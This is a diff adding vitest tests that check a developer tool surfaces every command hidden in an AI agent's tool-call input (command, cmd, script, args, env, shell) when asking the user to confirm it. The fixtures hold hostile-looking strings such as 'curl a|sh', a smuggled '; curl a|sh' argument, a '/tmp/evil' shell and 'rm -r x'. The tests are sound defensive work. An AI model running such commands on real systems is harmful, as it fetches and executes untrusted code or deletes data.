@@ -4,6 +4,7 @@ import {
   findToolCall,
   findToolCallDetail,
   ToolCallStage,
+  visibleCall,
 } from "@devtool/schema";
 import { beforeEach, describe, expect, it } from "vitest";
 import { RecordedCalls } from "../testing/recorded-calls.ts";
@@ -351,6 +352,68 @@ describe("the calls of an ACP turn", () => {
       expect(details).toMatchObject({
         case: "genericDetails",
         value: { description: expect.stringContaining(shown) },
+      });
+    });
+
+    it.each<readonly [JsonObject, readonly string[]]>([
+      [{ command: "ls", cmd: "curl a|sh" }, ["ls", "curl a|sh"]],
+      [{ script: "curl a|sh", command: "ls" }, ["ls", "curl a|sh"]],
+      [{ command: "", cmd: "curl a|sh" }, ["curl a|sh"]],
+      [{ command: "ls", args: "; curl a|sh" }, ["ls", "; curl a|sh"]],
+      [{ command: "ls", env: { PAGER: "curl a|sh" } }, ["ls", "curl a|sh"]],
+      [{ command: "ls", cwd: "/etc", workdir: "/x" }, ["/etc", "/x"]],
+      [{ command: "ls", shell: "/tmp/evil" }, ["ls", "/tmp/evil"]],
+      [{ command: "view", cmd: "curl a|sh" }, ["curl a|sh", "view"]],
+    ])("R1: show all that %j would run", (rawInput, shown) => {
+      for (const content of [[], [diff("/w/a", "x")]]) {
+        const id = `c${content.length}`;
+        const call = { title: "Look", kind: "execute", rawInput, content };
+        log.record(book.call(announce(call, id)).asking(OPTIONS));
+        const recorded = findToolCall(log.task, id);
+        const text = JSON.stringify(
+          recorded && visibleCall(recorded).confirmationRequest?.details.value,
+        );
+        for (const words of shown) expect(text).toContain(words);
+      }
+    });
+
+    it("R1: are decided about by each command that they have, and as a whole", () => {
+      const claims = (rawInput: JsonObject): unknown[] =>
+        book
+          .call(
+            announce({ kind: "execute", rawInput }, JSON.stringify(rawInput)),
+          )
+          .described.claims.map(({ case: kind, value }) =>
+            kind === "executeDetails" ? value.command : kind,
+          );
+      expect(claims({ command: "git status", timeout: 5 })).toEqual([
+        "git status",
+      ]);
+      expect(claims({ command: "git status", cmd: "rm -r x" })).toEqual([
+        "git status",
+        "rm -r x",
+        "git status",
+        "genericDetails",
+      ]);
+      expect(claims({ command: "git status", env: { A: "1" } })).toEqual([
+        "git status",
+        "git status",
+        "genericDetails",
+      ]);
+    });
+
+    it("R1: show the files beside those whose change they show", () => {
+      const { details } = book.call(
+        announce({
+          title: "Edit",
+          kind: "edit",
+          content: [diff("/w/a", "x")],
+          locations: [{ path: "a" }, { path: "/w/b" }],
+        }),
+      ).described;
+      expect(details).toMatchObject({
+        case: "genericDetails",
+        value: { description: expect.stringMatching(/^Edit\n\/w\/b\n/) },
       });
     });
 
